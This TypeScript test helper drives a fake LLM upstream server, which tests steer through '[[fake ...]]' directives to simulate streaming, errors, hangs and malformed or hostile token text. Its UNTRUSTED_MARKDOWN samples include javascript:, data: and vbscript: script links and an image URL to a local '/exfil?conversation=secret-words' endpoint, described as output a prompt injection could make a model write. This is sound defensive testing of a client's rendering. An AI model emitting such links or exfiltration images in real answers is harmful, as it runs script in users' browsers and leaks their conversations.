/**
 * How a test tells the fake upstream what to do: a directive inside the last user message,
 * e.g. "[[fake id=stop-1 tokens=200 delay=20]]". Browser tests can type it; nothing else is needed.
 */
export interface Scenario {
  /** Tag for finding this request's record. */
  id?: string;
  tokens: number;
  /** Reasoning tokens sent before the answer (`reasoning_content` / Anthropic thinking). */
  reasoning: number;
  /** Milliseconds between tokens; 0 sends them all at once. */
  delay: number;
  /** Milliseconds before the response headers. */
  headerDelay: number;
  /** Fail with this HTTP status instead of streaming. */
  status?: number;
  retryAfter?: string;
  /** Destroy the connection after this many tokens. */
  drop?: number;
  /** Send a chunk that is not JSON after this many tokens. */
  malformed?: number;
  /** Send OpenAI's mid-stream `{"error": …}` event after this many tokens. */
  errorEvent?: number;
  /** Go silent forever: before the headers, or after this many tokens. */
  hang?: 'headers' | number;
  /** Reset the connection before answering at all. */
  reset: boolean;
  /** After the stream's end event, keep the connection open instead of closing it. */
  linger: boolean;
  /** Make the first token this many characters long: one huge delta. */
  big?: number;
  /** Put bytes that are not UTF-8 into the token after this many tokens. */
  badBytes?: number;
  /** Token text: numbered words, a long markdown document, emoji and CJK, what storage refuses, or markdown meant to harm its reader. */
  text: 'words' | 'markdown' | 'unicode' | 'hostile' | 'untrusted';
  usage: boolean;
  /** Misbehave only on the first request with this id; a retry then succeeds. */
  once: boolean;
  /** Start the answer with `r<N> `, N counting the requests with this id, so versions differ. */
  nth: boolean;
}

const DIRECTIVE = /\[\[fake([^\]]*)\]\]/;

export function parseScenario(message: string): Scenario {
  const scenario: Scenario = { tokens: 12, reasoning: 0, delay: 0, headerDelay: 0, text: 'words', usage: true, once: false, nth: false, reset: false, linger: false };
  const match = DIRECTIVE.exec(message);
  if (!match?.[1]) return scenario;
  for (const pair of match[1].trim().split(/\s+/)) {
    const [key, value = ''] = pair.split('=');
    const num = Number(value);
    switch (key) {
      case 'id': scenario.id = value; break;
      case 'tokens': scenario.tokens = num; break;
      case 'reasoning': scenario.reasoning = num; break;
      case 'delay': scenario.delay = num; break;
      case 'headerDelay': scenario.headerDelay = num; break;
      case 'status': scenario.status = num; break;
      case 'retryAfter': scenario.retryAfter = value; break;
      case 'drop': scenario.drop = num; break;
      case 'malformed': scenario.malformed = num; break;
      case 'errorEvent': scenario.errorEvent = num; break;
      case 'hang': scenario.hang = value === 'headers' ? 'headers' : num; break;
      case 'text': scenario.text = value as Scenario['text']; break;
      case 'usage': scenario.usage = value !== '0'; break;
      case 'once': scenario.once = true; break;
      case 'nth': scenario.nth = true; break;
      case 'reset': scenario.reset = true; break;
      case 'linger': scenario.linger = true; break;
      case 'big': scenario.big = num; break;
      case 'badBytes': scenario.badBytes = num; break;
    }
  }
  return scenario;
}

/** The same scenario without its failures: what a retry of a `once` scenario gets. */
export function withoutFailures(scenario: Scenario): Scenario {
  return { ...scenario, status: undefined, drop: undefined, malformed: undefined, errorEvent: undefined, hang: undefined };
}

const UNICODE = ['你好', '世界', '😀', ' 👩‍💻', 'ünï', '𝒳', ' 日本語', '🎉 '];
/**
 * NUL, lone and reversed surrogates (on the wire as JSON escapes, as a model's server may send
 * them), an emoji split across two deltas (which must come out whole), noncharacters.
 */
const HOSTILE = ['a\u0000b ', '\ud800 ', '\udc00 ', '\udc00\ud800 ', 'split:\ud83d', '\ude00 ', '\uffff\ufdd0 '];

/** Links and images an injected instruction could make a model write: script URLs and an image that would carry data away. */
export const UNTRUSTED_MARKDOWN = [
  'Links: [run me](javascript:alert(document.cookie)) ',
  '[data link](data:text/html,<script>alert(1)</script>) ',
  '[vb link](vbscript:msgbox(1)) ',
  'and [a safe link](https://example.com/docs).\n\n',
  '![tracking pixel](http://127.0.0.1:4310/exfil?conversation=secret-words)\n\n',
  'The end.',
];

const MARKDOWN_PIECES = [
  '## Section ', '{n}\n\n', 'Here ', 'is ', 'a ', '**bold** ', 'claim ', 'with ', '`inline code` ', 'and ', 'a ', '[link](https://example.com) ', 'to ', 'follow.\n\n',
  '- first ', 'item\n', '- second ', 'item ', 'with ', '*emphasis*\n', '- third ', 'item\n\n',
  '```ts\n', 'export ', 'function ', 'add', '{n}', '(a: number, ', 'b: number) ', '{\n', '  return ', 'a + b;\n', '}\n', '```\n\n',
  '| key ', '| value |\n', '| --- ', '| --- |\n', '| n ', '| {n} |\n\n',
];

export const reasoningText = (i: number) => `think${i} `;

/** The text of token `i`, deterministic so tests can predict the whole answer. */
export function tokenText(scenario: Scenario, i: number): string {
  if (i === 0 && scenario.big) return 'x'.repeat(scenario.big);
  if (scenario.text === 'unicode') return UNICODE[i % UNICODE.length]!;
  if (scenario.text === 'hostile') return HOSTILE[i % HOSTILE.length]!;
  if (scenario.text === 'untrusted') return UNTRUSTED_MARKDOWN[i % UNTRUSTED_MARKDOWN.length]!;
  if (scenario.text === 'markdown') {
    const piece = MARKDOWN_PIECES[i % MARKDOWN_PIECES.length]!;
    return piece.replace('{n}', String(Math.floor(i / MARKDOWN_PIECES.length)));
  }
  return `w${i} `;
}

export function expectedText(scenario: Scenario, tokens = scenario.tokens): string {
  let text = '';
  for (let i = 0; i < tokens; i++) text += tokenText(scenario, i);
  return text;
}
